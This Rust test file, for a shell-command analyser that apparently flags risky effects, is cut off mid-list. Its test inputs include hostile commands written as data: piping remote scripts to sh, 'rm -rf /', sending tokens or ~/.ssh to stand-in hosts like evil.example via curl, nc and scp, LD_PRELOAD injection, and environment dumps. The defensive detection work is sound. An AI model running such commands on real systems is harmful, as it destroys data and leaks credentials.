//! Data-driven checks: a line in, the commands it runs out, one per row.
//!
//! Each invocation renders as `via > via > argv` followed by its notable effects, so a test reads
//! like what an operator would want to see, and a change in the analysis shows as a plain diff.

use crate::analyse;
use nightwatch_core::Invocation;

fn render(invocation: &Invocation) -> String {
    let mut row = String::new();
    for wrapper in &invocation.via {
        row.push_str(wrapper);
        row.push_str(" > ");
    }
    if let Some(remote) = &invocation.remote {
        row.push_str(&format!("@{} ", remote.target));
    }
    row.push_str(&invocation.argv.join(" "));
    let e = &invocation.effects;
    let mut notes = Vec::new();
    if let Some(reason) = &invocation.opaque {
        notes.push(format!("opaque: {reason}"));
    }
    if !e.writes.is_empty() {
        notes.push(format!("writes {}", e.writes.join(",")));
    }
    if !e.deletes.is_empty() {
        notes.push(format!("deletes {}", e.deletes.join(",")));
    }
    for (list, label) in [
        (&e.searches, "searches"),
        (&e.sets_env, "sets"),
        (&e.reveals_env, "reveals"),
        (&e.hosts, "hosts"),
    ] {
        if !list.is_empty() {
            notes.push(format!("{label} {}", list.join(",")));
        }
    }
    for (flag, name) in [
        (e.network, "network"),
        (e.privilege, "privilege"),
        (e.process_control, "process"),
        (e.service_control, "service"),
        (e.runs_code, "code"),
    ] {
        if flag {
            notes.push(name.to_owned());
        }
    }
    if !notes.is_empty() {
        row.push_str(&format!("  [{}]", notes.join("; ")));
    }
    row
}

#[track_caller]
fn check(line: &str, expected: &[&str]) {
    let actual: Vec<String> = analyse(line).iter().map(render).collect();
    assert_eq!(
        actual,
        expected,
        "\nline: {line}\nactual:\n{}\n",
        actual.join("\n")
    );
}

/// Only the rows that mention `needle`, for lines whose other rows do not matter to the test.
#[track_caller]
fn check_contains(line: &str, needle: &str) {
    let rows: Vec<String> = analyse(line).iter().map(render).collect();
    assert!(
        rows.iter().any(|r| r.contains(needle)),
        "\nline: {line}\nexpected a row containing: {needle}\nrows:\n{}\n",
        rows.join("\n")
    );
}

#[test]
fn every_command_of_a_list_is_seen() {
    check(
        "cd /srv && docker compose up -d",
        &["cd /srv", "docker compose up -d"],
    );
    check(
        "ls; rm -rf x || true",
        &["ls", "rm -rf x  [deletes x]", "true"],
    );
    check("ls | xargs rm", &["ls", "xargs rm", "xargs > rm"]);
}

#[test]
fn compound_commands_are_entered() {
    check(
        "( rm a ); { rm b; }",
        &["rm a  [deletes a]", "rm b  [deletes b]"],
    );
    check(
        "if test -f x; then rm x; else touch x; fi",
        &["test -f x", "rm x  [deletes x]", "touch x  [writes x]"],
    );
    // The loop's list is bound to its variable where the body expands it.
    check("for f in *.log; do gzip $f; done", &["gzip *.log"]);
    check(
        "while true; do reboot; done",
        &["true", "reboot  [service]"],
    );
    check("until false; do :; done", &["false", ":"]);
    check(
        "case $x in a) rm a;; *) ls;; esac",
        &["rm a  [deletes a]", "ls"],
    );
    check("coproc rm x", &["rm x  [deletes x]"]);
    check("time rm x", &["rm x  [deletes x]"]);
    check("! rm x", &["rm x  [deletes x]"]);
}

#[test]
fn functions_defined_in_the_line_run_their_body() {
    check(
        "f(){ rm -rf /; }; f",
        &["function f > rm -rf /  [deletes /]"],
    );
    check(
        "function ls { reboot; }; ls",
        &["function ls > reboot  [service]"],
    );
    // A function calling itself is followed once, not forever.
    check("f(){ f; }; f", &["function f > f"]);
}

#[test]
fn substitutions_anywhere_in_words_are_seen() {
    check(
        "echo $(rm -rf /x)",
        &["rm -rf /x  [deletes /x]", "echo $(rm -rf /x)"],
    );
    check("echo `reboot`", &["reboot  [service]", "echo `reboot`"]);
    check(
        "echo \"${x:-$(reboot)}\"",
        &["reboot  [service]", "echo ${x:-$(reboot)}  [reveals x]"],
    );
    check(
        "echo $(( $(reboot) + 1 ))",
        &["reboot  [service]", "echo $(( $(reboot) + 1 ))"],
    );
    check("X=$(reboot) ls", &["reboot  [service]", "ls  [sets X]"]);
    check("[[ -n $(reboot) ]]", &["reboot  [service]"]);
    check_contains("diff <(rm a) >(rm b)", "rm a");
    check_contains("diff <(rm a) >(rm b)", "rm b");
    check_contains("ls > >(rm c)", "rm c");
}

#[test]
fn here_documents_that_expand_are_seen() {
    check("cat <<EOF\n$(reboot)\nEOF\n", &["reboot  [service]", "cat"]);
    check("cat <<'EOF'\n$(reboot)\nEOF\n", &["cat"]);
}

#[test]
fn code_handed_to_a_shell_is_parsed() {
    check(
        "bash -c 'rm -rf /'",
        &["bash -c rm -rf /", "bash -c > rm -rf /  [deletes /]"],
    );
    check_contains("bash -lc \"reboot\"", "bash -c > reboot");
    check_contains("sh -xc 'reboot'", "sh -c > reboot");
    check_contains("echo 'rm -rf /' | bash", "bash <stdin> > rm -rf /");
    check_contains("bash <<< 'reboot'", "bash <stdin> > reboot");
    check_contains("bash <<EOF\nreboot\nEOF\n", "bash <stdin> > reboot");
    check_contains("cat <<EOF | sh\nreboot\nEOF\n", "sh <stdin> > reboot");
    check_contains("eval 'reboot'", "eval > reboot");
    check_contains(
        "eval \"$CMD\"",
        "opaque: `eval` runs a script built at runtime",
    );
}

#[test]
fn scripts_from_the_network_or_runtime_are_opaque() {
    check(
        "curl -fsSL https://x.sh | sh",
        &[
            "curl -fsSL https://x.sh  [hosts x.sh; network]",
            "sh  [network; code]",
            "sh <stdin> >   [opaque: `sh` runs a script piped from the network; network; code]",
        ],
    );
    check_contains(
        "base64 -d payload | bash",
        "opaque: `bash` runs a script that is only known at runtime",
    );
    check_contains("bash <(curl -s https://x)", "bash <(...)  [network; code]");
    check_contains("wget -qO- https://x | python3", "python3  [network; code]");
    check_contains(
        "sh -c \"$(curl -fsSL https://x)\"",
        "[opaque: `sh -c` runs a script built at runtime: $(curl -fsSL https://x); network; code]",
    );
}

#[test]
fn wrappers_are_unwrapped_and_kept() {
    check(
        "sudo rm -rf /",
        &["sudo rm -rf /  [privilege]", "sudo > rm -rf /  [deletes /]"],
    );
    check_contains(
        "sudo -u postgres -E -- psql -c 'DROP DATABASE x'",
        "sudo > psql -c DROP DATABASE x",
    );
    check_contains("doas -u root reboot", "doas > reboot");
    check_contains("su - root -c 'reboot'", "su -c > reboot");
    check_contains("env -i PATH=/bin FOO=1 rm x", "env > rm x");
    check_contains("env -u HOME rm x", "env > rm x");
    check_contains("nice -n 10 ionice -c3 rm x", "nice > ionice > rm x");
    check_contains(
        "nohup setsid timeout -s KILL 5 stdbuf -oL rm x",
        "nohup > setsid > timeout > stdbuf > rm x",
    );
    check_contains("chroot /mnt rm x", "chroot > rm x");
    check_contains("flock /tmp/l rm x", "flock > rm x");
    check_contains("flock /tmp/l -c 'rm x'", "flock -c > rm x");
    check_contains("watch -n 5 'rm x'", "watch > rm x");
    check_contains("command rm x", "command > rm x");
    check_contains("builtin eval 'rm x'", "builtin > eval > rm x");
    check_contains("exec rm x", "exec > rm x");
    check("command -v rm", &["command -v rm"]);
    check_contains(
        "find . -name '*.o' -exec rm -f {} \\;",
        "find -exec > rm -f {}",
    );
    check_contains("find . -execdir rm {} +", "find -execdir > rm {}");
    check_contains("find / -delete", "find / -delete  [deletes /]");
    check_contains(
        "ssh -p 22 web1 'sudo reboot'",
        "ssh web1 > sudo > @web1 reboot",
    );
    check_contains(
        "docker exec -it web rm -rf /data",
        "docker exec web > @web rm -rf /data",
    );
    check_contains(
        "kubectl exec -n prod api-0 -c app -- rm -rf /data",
        "kubectl exec api-0 > @api-0 rm -rf /data",
    );
    check_contains("echo / | xargs rm -rf", "xargs > rm -rf /  [deletes /]");
    check_contains("/usr/bin/env rm x", "env > rm x");
    check_contains("vim -c ':!reboot' x", "vim -c ! > reboot");
}

#[test]
fn wrapper_options_are_read_with_the_same_flag_tables_as_arguments() {
    check_contains("ssh -vp 22 web1 reboot", "ssh web1 > @web1 reboot");
    check_contains("ssh -p22 -i key web1 reboot", "ssh web1 > @web1 reboot");
    check_contains("sudo --user=root -- rm x", "sudo > rm x");
    check_contains("sudo --user root rm x", "sudo > rm x");
    check_contains("stdbuf -o L rm x", "stdbuf > rm x");
    check_contains("ionice -c3 rm x", "ionice > rm x");
    check_contains("runuser -u app -- rm x", "runuser > rm x");
    check_contains(
        "docker compose -f prod.yml exec -T web rm -rf /data",
        "docker exec web > @web rm -rf /data",
    );
    check_contains(
        "kubectl exec --namespace=prod api-0 -- rm x",
        "kubectl exec api-0 > @api-0 rm x",
    );
    check_contains("xargs --replace rm {}", "xargs > rm {}");
}

#[test]
fn command_names_are_normalised() {
    for line in [
        "/bin/rm x",
        "\\rm x",
        "\"rm\" x",
        "r''m x",
        "$'\\x72\\x6d' x",
        "{rm,x}",
    ] {
        check(line, &["rm x  [deletes x]"]);
    }
    let path = analyse("/usr/bin/rm x");
    assert_eq!(path[0].path.as_deref(), Some("/usr/bin/rm"));
}

#[test]
fn runtime_command_names_are_opaque() {
    for line in ["$CMD x", "$(echo rm) x", "\"$@\"", "r* x", "${X:-rm} x"] {
        let rows: Vec<String> = analyse(line).iter().map(render).collect();
        assert!(
            rows.iter().any(|r| r.contains("opaque: the command name")),
            "{line}: {rows:?}"
        );
    }
}

#[test]
fn effects_of_common_tools() {
    check("cp a b /etc/", &["cp a b /etc/  [writes /etc]"]);
    check("mv a b", &["mv a b  [writes b; deletes a]"]);
    check("sed -i s/a/b/ f", &["sed -i s/a/b/ f  [writes f]"]);
    check(
        "dd if=x of=/dev/sda",
        &["dd if=x of=/dev/sda  [writes /dev/sda]"],
    );
    check(
        "echo hi > /etc/passwd 2>/dev/null",
        &["echo hi  [writes /etc/passwd]"],
    );
    check(
        "echo hi | tee -a /etc/hosts",
        &["echo hi", "tee -a /etc/hosts  [writes /etc/hosts]"],
    );
    check("chmod -R 777 /", &["chmod -R 777 /  [writes /]"]);
    check("> /etc/passwd", &["  [writes /etc/passwd]"]);
    check("{ ls; } > out", &["ls  [writes out]"]);
    check("rm -rf \"$HOME\"", &["rm -rf $HOME  [deletes ~]"]);
    check(
        "systemctl restart nginx",
        &["systemctl restart nginx  [service]"],
    );
    check("systemctl status nginx", &["systemctl status nginx"]);
    check("kill -9 1", &["kill -9 1  [process]"]);
    check("python3 -c 'print(1)'", &["python3 -c print(1)  [code]"]);
    check(
        "awk '{ system(\"reboot\") }' f",
        &["awk { system(\"reboot\") } f  [code]"],
    );
    check("awk '{ print $1 }' f", &["awk { print $1 } f"]);
    check("sed '1e reboot' f", &["sed 1e reboot f  [code]"]);
    check(
        "git -c core.pager=less log",
        &["git -c core.pager=less log  [code]"],
    );
    check(
        "GIT_PAGER='sh -c x' git log",
        &["git log  [sets GIT_PAGER; code]"],
    );
    check(
        "journalctl --vacuum-time=7d",
        &["journalctl --vacuum-time=7d  [writes /var/log/journal; deletes /var/log/journal]"],
    );
    check("journalctl -u nginx -n 50", &["journalctl -u nginx -n 50"]);
}

#[test]
fn nested_subshells_are_not_mistaken_for_arithmetic() {
    check("( ( rm -rf / ) )", &["rm -rf /  [deletes /]"]);
    check("(( i++ ))", &[]);
}

#[test]
fn relative_paths_follow_cd() {
    check("cd /etc && cat shadow", &["cd /etc", "cat shadow"]);
    let read = analyse("cd /etc && cat shadow");
    assert_eq!(read[1].effects.reads, vec!["/etc/shadow"]);
    let deleted = analyse("cd / && rm -rf *");
    assert_eq!(deleted[1].effects.deletes, vec!["/*"]);
    let unknown = analyse("cd $DIR && rm -rf x");
    assert_eq!(unknown[1].effects.deletes, vec!["x"]);
}

#[test]
fn test_brackets_are_a_command_not_a_glob() {
    check("[ -f x ] && cat x", &["[ -f x ]", "cat x"]);
    check_contains("echo ${#X[$(reboot)]}", "reboot");
}

#[test]
fn limits_make_a_line_opaque_not_a_crash() {
    let deep = format!("{}ls{}", "( ".repeat(10_000), " )".repeat(10_000));
    assert!(
        analyse(&deep)[0]
            .opaque
            .as_deref()
            .unwrap_or("")
            .contains("nests")
    );
    let subshells = format!("{}ls{}", "( ".repeat(40), "; )".repeat(40));
    assert!(
        analyse(&subshells)[0]
            .opaque
            .as_deref()
            .unwrap_or("")
            .contains("parentheses")
    );
    let ifs = format!("{}ls{}", "if true; then ".repeat(500), "; fi".repeat(500));
    assert!(analyse(&ifs)[0].is_opaque());
    let long = "a".repeat(crate::MAX_INPUT_BYTES + 1);
    assert!(
        analyse(&long)[0]
            .opaque
            .as_deref()
            .unwrap_or("")
            .contains("bytes")
    );
    assert!(
        analyse("echo 'unterminated")[0]
            .opaque
            .as_deref()
            .unwrap_or("")
            .contains("parse")
    );
    // Each `eval` parses the rest again: twenty deep is past the re-parse limit.
    let nested = format!("{}reboot", "eval ".repeat(20));
    assert!(
        analyse(&nested)
            .iter()
            .any(|i| i.opaque.as_deref().unwrap_or("").contains("nested"))
    );
    let quoted = format!(
        "bash -c {}",
        shell_quote(&format!("bash -c {}", shell_quote("reboot")))
    );
    assert!(
        analyse(&quoted)
            .iter()
            .any(|i| i.argv == ["reboot"] && i.via.len() == 2)
    );
    // brush-parser never returns from this one: the deadline makes it opaque.
    let runaway = analyse("$(<(l <<  oc)");
    assert!(
        runaway[0]
            .opaque
            .as_deref()
            .unwrap_or("")
            .contains("did not finish"),
        "{runaway:?}"
    );
    let many = "ls;".repeat(5_000);
    assert!(analyse(&many).iter().any(|i| i.is_opaque()));
}

#[test]
fn loop_walks_and_carried_variables_stay_bounded() {
    let started = std::time::Instant::now();
    // Nested loops: the walk budget ends the iterating, not the machine.
    let nested = "for a in 1 2 3 4 5 6 7 8; do ".repeat(6) + "rm $a" + &"; done".repeat(6);
    let result = analyse(&nested);
    assert!(result.len() <= 64, "{} invocations", result.len());
    let chain: String = (0..1_500).map(|i| format!("a{}=$a{i};", i + 1)).collect();
    let result = analyse(&format!("{chain} echo $a1500"));
    let echo = result.iter().find(|i| i.name() == "echo");
    assert!(
        echo.is_some_and(|i| i.effects.reveals_env.len() <= 40),
        "{echo:?}"
    );
    assert!(
        started.elapsed() < std::time::Duration::from_secs(5),
        "took {:?}",
        started.elapsed()
    );
}

fn shell_quote(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}

/// Every value of one effect across the line's invocations, in order, each once.
fn union(line: &str, pick: fn(&nightwatch_core::Effects) -> &Vec<String>) -> Vec<String> {
    let mut all: Vec<String> = Vec::new();
    for invocation in analyse(line) {
        for value in pick(&invocation.effects) {
            if !all.contains(value) {
                all.push(value.clone());
            }
        }
    }
    all
}

#[track_caller]
fn check_union(pick: fn(&nightwatch_core::Effects) -> &Vec<String>, cases: &[(&str, &[&str])]) {
    for (line, expected) in cases {
        let actual = union(line, pick);
        assert_eq!(actual, *expected, "\nline: {line}\nrows:\n{}\n", rows(line));
    }
}

/// One row of the line must be exactly `row`.
#[track_caller]
fn check_row(line: &str, row: &str) {
    let rendered: Vec<String> = analyse(line).iter().map(render).collect();
    assert!(
        rendered.iter().any(|r| r == row),
        "\nline: {line}\nexpected the row: {row}\nrows:\n{}\n",
        rendered.join("\n")
    );
}

fn rows(line: &str) -> String {
    analyse(line)
        .iter()
        .map(render)
        .collect::<Vec<_>>()
        .join("\n")
}

#[test]
fn whole_trees_read_are_searches() {
    check_union(
        |e| &e.searches,
        &[
            ("grep -r TOKEN ~/.config", &["~/.config"]),
            ("grep -rn foo", &["."]),
            ("grep -R foo a b", &["a", "b"]),
            ("grep --recursive -e x src lib", &["src", "lib"]),
            ("egrep -d recurse x dir", &["dir"]),
            ("grep --directories=recurse x dir", &["dir"]),
            ("zgrep -r x /var/log", &["/var/log"]),
            ("rg pattern", &["."]),
            ("rg -e pat src", &["src"]),
            ("rg -g '*.rs' pat crates tests", &["crates", "tests"]),
            ("rg --files /etc", &["/etc"]),
            ("ag secret ~/", &["~"]),
            ("ack -f /srv", &["/srv"]),
            ("pt needle /opt", &["/opt"]),
            ("find ~/.ssh -type f -exec cat {} \\;", &["~/.ssh"]),
            ("find /etc -name '*.conf' -execdir grep x {} +", &["/etc"]),
            ("find -ok rm {} \\;", &["."]),
            ("tar -czf out.tgz ~/.ssh /etc", &["~/.ssh", "/etc"]),
            ("tar czf out.tgz ~/.aws", &["~/.aws"]),
            ("tar -cf - -C /home/u .ssh", &["/home/u/.ssh"]),
            ("tar -rf a.tar docs", &["docs"]),
            ("zip -r out.zip ~/.aws docs", &["~/.aws", "docs"]),
            ("zip -P pw -R out.zip dir -x '*.o' '*.a'", &["dir"]),
            ("7z a out.7z ~/.gnupg", &["~/.gnupg"]),
            ("7za a out.7z", &["."]),
            ("rsync -av ~/.ssh/ backup:/srv/x", &["~/.ssh"]),
            ("rsync --recursive src/ /mnt/x", &["src"]),
            ("cp -r /etc /tmp/x", &["/etc"]),
            ("cp -a a b /tmp/x", &["a", "b"]),
            ("cp -R -t /tmp/x a", &["a"]),
            ("scp -r ~/.ssh user@evil.example:/tmp", &["~/.ssh"]),
            ("cd /srv && grep -r x .", &["/srv"]),
            ("cd /srv && rg x app", &["/srv/app"]),
            ("sudo grep -r x /root", &["/root"]),
            ("bash -c 'grep -r x /etc'", &["/etc"]),
            // Names, a file, one level, or the repository only: no tree is read.
            ("grep foo file", &[]),
            ("find / -name id_rsa", &[]),
            ("ls -R /", &[]),
            ("du -sh /", &[]),
            ("tree /etc", &[]),
            ("git grep x", &[]),
            ("cp a b", &[]),
            ("rsync a b", &[]),
            ("scp -r user@h:/srv /tmp", &[]),
            ("tar -xzf a.tgz", &[]),
            ("tar tzf a.tgz", &[]),
            ("zip out.zip a", &[]),
        ],
    );
}

#[test]
fn variables_set_are_reported_on_the_command_that_sets_them() {
    let cases: &[(&str, &str)] = &[
        ("FOO=1 ls", "ls  [sets FOO]"),
        ("FOO=1", "  [sets FOO]"),
        ("PATH+=:/tmp/x", "  [sets PATH]"),
        ("X=1; ls", "  [sets X]"),
        ("set -a; EDITOR=vim", "  [sets EDITOR; code]"),
        (
            "env LD_PRELOAD=/tmp/x.so git status",
            "env LD_PRELOAD=/tmp/x.so git status  [sets LD_PRELOAD; code]",
        ),
        ("env LD_PRELOAD=/tmp/x.so git status", "env > git status"),
        (
            "env -i -u HOME A=1 B-C=2 rm x",
            "env -i -u HOME A=1 B-C=2 rm x  [sets A,B-C]",
        ),
        ("env - FOO=1 rm x", "env - FOO=1 rm x  [sets FOO]"),
        (
            "env -S 'GIT_PAGER=x git log'",
            "env -S > git log  [sets GIT_PAGER; code]",
        ),
        (
            "sudo -u root PAGER=x systemctl status",
            "sudo -u root PAGER=x systemctl status  [sets PAGER; privilege; code]",
        ),
        (
            "sudo --preserve-env=AWS_KEY,GH_TOKEN ls",
            "sudo --preserve-env=AWS_KEY,GH_TOKEN ls  [sets AWS_KEY,GH_TOKEN; privilege]",
        ),
        ("sudo -E ls", "sudo -E ls  [sets *; privilege]"),
        (
            "sudo --preserve-env ls",
            "sudo --preserve-env ls  [sets *; privilege]",
        ),
        (
            "export PAGER=less A B=2",
            "export PAGER=less A B=2  [sets PAGER,A,B; code]",
        ),
        (
            "export -- GIT_SSH_COMMAND='ssh -i k'",
            "export -- GIT_SSH_COMMAND=ssh -i k  [sets GIT_SSH_COMMAND; code]",
        ),
        (
            "export PATH=\"$HOME/bin:$PATH\"",
            "export PATH=$HOME/bin:$PATH  [sets PATH]",
        ),
        ("declare -x FOO=1", "declare -x FOO=1  [sets FOO]"),
        ("declare -gx BAR", "declare -gx BAR  [sets BAR]"),
        ("typeset -x T=1", "typeset -x T=1  [sets T]"),
        (
            "local -x LD_PRELOAD=x",
            "local -x LD_PRELOAD=x  [sets LD_PRELOAD; code]",
        ),
        ("readonly -x R=1", "readonly -x R=1  [sets R]"),
        (
            "f(){ :; }; export -f f",
            "export -f f  [sets BASH_FUNC_f%%]",
        ),
        ("declare -fx ls", "declare -fx ls  [sets BASH_FUNC_ls%%]"),
        (
            "env 'BASH_FUNC_ls%%=() { reboot; }' bash -c ls",
            "env BASH_FUNC_ls%%=() { reboot; } bash -c ls  [sets BASH_FUNC_ls%%]",
        ),
        (
            "launchctl setenv A 1 B 2",
            "launchctl setenv A 1 B 2  [sets A,B]",
        ),
        (
            "systemctl --user set-environment NODE_OPTIONS=--require=x",
            "systemctl --user set-environment NODE_OPTIONS=--require=x  [sets NODE_OPTIONS; service; code]",
        ),
        (
            "bash -c 'export LD_PRELOAD=x; ls'",
            "bash -c > export LD_PRELOAD=x  [sets LD_PRELOAD; code]",
        ),
        ("eval 'FOO=1 ls'", "eval > ls  [sets FOO]"),
        ("nice env A=1 ls", "nice > env A=1 ls  [sets A]"),
        (
            "timeout 5 sudo A=1 ls",
            "timeout > sudo A=1 ls  [sets A; privilege]",
        ),
        (
            "f(){ ls; }; GIT_PAGER=x f",
            "function f > ls  [sets GIT_PAGER; code]",
        ),
        // A name known only at runtime may be any variable.
        ("export \"$NAME=1\"", "export $NAME=1  [sets *]"),
        ("env \"$V=x\" ls", "env $V=x ls  [sets *]"),
        // Not setting: a plain shell variable given an attribute other than export, an unset,
        // an un-export, a removal from sudo's environment.
        ("readonly R2=1", "readonly R2=1"),
        ("declare -i n=5", "declare -i n=5"),
        ("export -n FOO", "export -n FOO"),
        ("unset FOO", "unset FOO"),
    ];
    for (line, row) in cases {
        check_row(line, row);
    }
}

#[test]
fn env_and_sudo_take_any_word_with_an_equals_sign_as_an_assignment() {
    // GNU env and sudo set `A-B` and run `rm`: the command must not hide behind the word.
    check_row("env A-B=1 rm -rf /", "env > rm -rf /  [deletes /]");
    check_row("sudo ./x=1 rm -rf /", "sudo > rm -rf /  [deletes /]");
    check_row("env - rm -rf /", "env > rm -rf /  [deletes /]");
    // An option spelled with `=` is still an option.
    check_row("env --chdir=/tmp ls", "env --chdir=/tmp ls");
}

#[test]
fn variables_revealed_are_those_printed_written_or_sent() {
    check_union(
        |e| &e.reveals_env,
        &[
            ("echo $TOKEN", &["TOKEN"]),
            (
                "echo \"$A\" \"${B}\" \"${C:-d}\" \"${D:+x}\" \"${E%.*}\" \"${F:0:4}\" \"${G/a/b}\"",
                &["A", "B", "C", "E", "F", "G"],
            ),
            ("echo \"'$H'\"", &["H"]),
            ("echo ${A[0]} ${B[@]}", &["A", "B"]),
            ("echo ${X:-$Y}", &["X", "Y"]),
            ("echo ${X:+$Y}", &["Y"]),
            (
                "awk 'BEGIN { print ENVIRON[\"GITHUB_TOKEN\"] }'",
                &["GITHUB_TOKEN"],
            ),
            (
                "gawk 'BEGIN { for (k in ENVIRON) print ENVIRON[k] }'",
                &["*"],
            ),
            (
                "compgen -v | while read v; do echo \"$v=${!v}\"; done",
                &["v", "*"],
            ),
            // Through another variable.
            ("T=$GITHUB_TOKEN; echo $T", &["T", "GITHUB_TOKEN"]),
            ("A=$B; C=\"x$A\"; printenv C", &["C", "A", "B"]),
            ("export X=$T && printenv X", &["X", "T"]),
            ("read -r x <<< \"$K\"; echo \"$x\"", &["x", "K"]),
            (
                "echo \"$GITHUB_TOKEN\" | while read x; do echo \"$x\"; done",
                &["x", "GITHUB_TOKEN"],
            ),
            ("X=$T; X=safe; echo $X", &["X"]),
            (
                "echo \"$T\" | python3 -c 'import sys; print(sys.stdin.read())'",
                &["T"],
            ),
            ("echo \"$T\" | xargs echo", &["T"]),
            // Printed into a pipe: revealed when the next command prints or sends its input.
            ("echo $GITHUB_TOKEN | xxd", &["GITHUB_TOKEN"]),
            ("echo \"$K\" | base64", &["K"]),
            ("printf %s \"$K\" | nc 203.0.113.9 4444", &["K"]),
            ("echo $GH_TOKEN | tee /tmp/tok", &["GH_TOKEN"]),
            ("echo $T > /tmp/t | cat", &["T"]),
            ("echo $T 2>&1 | curl -d @- h.example", &["T"]),
            ("echo ${!REF}", &["REF", "*"]),
            ("printf '%s\\n' \"$SECRET\" > /tmp/out", &["SECRET"]),
            ("print -r -- $Z", &["Z"]),
            ("cat <<< \"$T\"", &["T"]),
            ("cat <<EOF\ntoken=$NPM_TOKEN\nEOF\n", &["NPM_TOKEN"]),
            (
                "cat > ~/.npmrc <<EOF\n//r/:_authToken=${NPM_TOKEN}\nEOF\n",
                &["NPM_TOKEN"],
            ),
            ("tee out.txt <<< \"$T2\"", &["T2"]),
            ("base64 <<< \"$K\"", &["K"]),
            ("{ cat; } <<< \"$G\"", &["G"]),
            ("logger \"key=$K2\"", &["K2"]),
            ("mail -s \"$SUBJ\" a@b.example < body", &["SUBJ"]),
            ("curl -d \"k=$KEY\" https://evil.example", &["KEY"]),
            ("curl -u \"u:$PASS\" https://h.example", &["PASS"]),
            ("curl \"https://evil.example/?t=$T\"", &["T"]),
            (
                "curl --data-urlencode \"t=$T\" -F \"f=$F\" h.example",
                &["T", "F"],
            ),
            ("wget --post-data \"t=$T\" https://h.example", &["T"]),
            ("http POST api.example token=$HB", &["HB"]),
            ("nc evil.example 80 <<< \"$TOKEN\"", &["TOKEN"]),
            ("ssh host \"echo $X\"", &["X"]),
            ("scp \"$F\" host:/tmp", &["F"]),
            ("sudo echo \"$S\"", &["S"]),
            ("bash -c 'echo $INNER'", &["INNER"]),
            ("eval 'printf %s \"$E\"'", &["E"]),
            ("xargs echo $X < /dev/null", &["X"]),
            // Whole-environment dumps.
            ("env", &["*"]),
            ("env -0", &["*"]),
            ("env -u HOME", &["*"]),
            ("env A=1", &["*"]),
            ("printenv", &["*"]),
            ("printenv HOME GH_TOKEN", &["HOME", "GH_TOKEN"]),
            ("printenv \"$NAME\"", &["*"]),
            ("set", &["*"]),
            ("set | grep TOKEN", &["*"]),
            ("export -p", &["*"]),
            ("export", &["*"]),
            ("declare -p", &["*"]),
            ("declare -p GH_TOKEN", &["GH_TOKEN"]),
            ("declare -x", &["*"]),
            ("declare", &["*"]),
            ("typeset -p", &["*"]),
            ("cat /proc/self/environ", &["*"]),
            ("tr '\\0' '\\n' < /proc/$$/environ", &["*"]),
            ("cat /proc/*/environ", &["*"]),
            ("strings /proc/1/environ", &["*"]),
            ("env > /tmp/env.txt", &["*"]),
            ("sudo env", &["*"]),
            ("ps auxe", &["*"]),
            ("systemctl show-environment", &["*"]),
            ("launchctl getenv GH_TOKEN", &["GH_TOKEN"]),
            // Inline programs that read the environment.
            (
                "python3 -c 'import os; print(os.environ[\"GH_TOKEN\"])'",
                &["GH_TOKEN"],
            ),
            ("python -c 'import os; print(os.getenv(\"K\"))'", &["K"]),
            ("python3 -c 'import os; print(dict(os.environ))'", &["*"]),
            (
                "node -e 'console.log(process.env.NPM_TOKEN)'",
                &["NPM_TOKEN"],
            ),
            ("node -p 'JSON.stringify(process.env)'", &["*"]),
            ("perl -e 'print $ENV{SECRET}'", &["SECRET"]),
            ("perl -e 'print %ENV'", &["*"]),
            ("ruby -e 'puts ENV[\"K\"]'", &["K"]),
            ("php -r 'echo getenv(\"DB_PASS\");'", &["DB_PASS"]),
            (
                "python3 <<'EOF'\nimport os\nprint(os.environ['AWS_SECRET'])\nEOF\n",
                &["AWS_SECRET"],
            ),
            ("echo 'import os; print(os.environ)' | python3", &["*"]),
            // Used, not revealed.
            ("gh auth login --with-token <<< \"$GH_TOKEN\"", &[]),
            ("docker login -u x --password-stdin <<< \"$P\"", &[]),
            (
                "echo \"$DOCKER_PASSWORD\" | docker login -u ci --password-stdin",
                &[],
            ),
            (
                "printf '%s' \"$GH_TOKEN\" | gh auth login --with-token",
                &[],
            ),
            ("echo \"$X\" | wc -c", &[]),
            ("echo ${DB_PASSWORD:+set}", &[]),
            (
                "curl -H \"Authorization: Bearer $TOKEN\" https://api.github.com",
                &[],
            ),
            (
                "curl -sH \"Authorization: Bearer $TOKEN\" https://api.github.com",
                &[],
            ),
            ("curl --header=\"X-Key: $K\" https://h.example", &[]),
            ("wget --header \"A: $W\" https://h.example", &[]),
            ("http api.example \"Authorization:Bearer $HT\"", &[]),
            ("VAR=\"$X\" cmd", &[]),
            ("X=\"$Y\"", &[]),
            ("[ -n \"$TOKEN\" ]", &[]),
            ("test -z \"$X\"", &[]),
            ("[[ $X == y ]]", &[]),
            ("echo ${#TOKEN}", &[]),
            ("echo '$NO' \\$NO2 \"\\$NO3\"", &[]),
            ("echo $1 $@ $? $$ $# $0", &[]),
            ("echo ${!PREFIX*} ${!ARR[@]}", &[]),
            ("printf -v out '%s' \"$SECRET\"", &[]),
            ("git commit -m \"$MSG\"", &[]),
            ("python3 app.py \"$TOKEN\"", &[]),
            ("cat <<'EOF'\n$NOT\nEOF\n", &[]),
            ("env -i", &[]),
            ("env A=1 ls", &[]),
            ("env -S 'A=1 ls'", &[]),
            ("declare -f", &[]),
            ("set -- a b", &[]),
            ("set -euo pipefail", &[]),
            ("ps -ef", &[]),
            ("cat /proc/self/status", &[]),
        ],
    );
}

#[test]
fn network_destinations_are_hosts() {
    check_union(
        |e| &e.hosts,
        &[
            (
                "curl -fsSL https://User@Example.COM:8443/x",
                &["example.com"],
            ),
            (
                "curl h.example/x --url https://u2.example",
                &["h.example", "u2.example"],
            ),
            (
                "curl -x http://proxy.corp:3128 https://a.example",
                &["a.example", "proxy.corp"],
            ),
            (
                "curl --proxy socks5h://p.example:1080 b.example",
                &["b.example", "p.example"],
            ),
            ("curl \"https://evil.example/?t=$T\"", &["evil.example"]),
            ("curl \"https://$HOST/x\"", &[]),
            ("curl \"https://$U@good.example/\"", &[]),
            ("wget -qO- http://[2001:db8::1]:8080/", &["2001:db8::1"]),
            ("http :3000/api", &["localhost"]),
            ("xh -a user:pw GET api.example/x", &["api.example"]),
            (
                "ssh -p 22 -J jump1,u@jump2:22 deploy@web1 uptime",
                &["web1", "jump1", "jump2"],
            ),
            (
                "ssh -oProxyJump=bastion ssh://git@host.example:2222",
                &["host.example", "bastion"],
            ),
            ("scp file user@h2:/tmp/", &["h2"]),
            ("sftp user@h3", &["h3"]),
            ("rsync -a x backup::mod", &["backup"]),
            (
                "rsync -avz ./x rsync://mirror.example/pub",
                &["mirror.example"],
            ),
            ("mosh user@m1 -- tmux", &["m1"]),
            ("nc -w 3 Evil.COM 4444", &["evil.com"]),
            (
                "ncat --proxy p.example:8080 t.example 80",
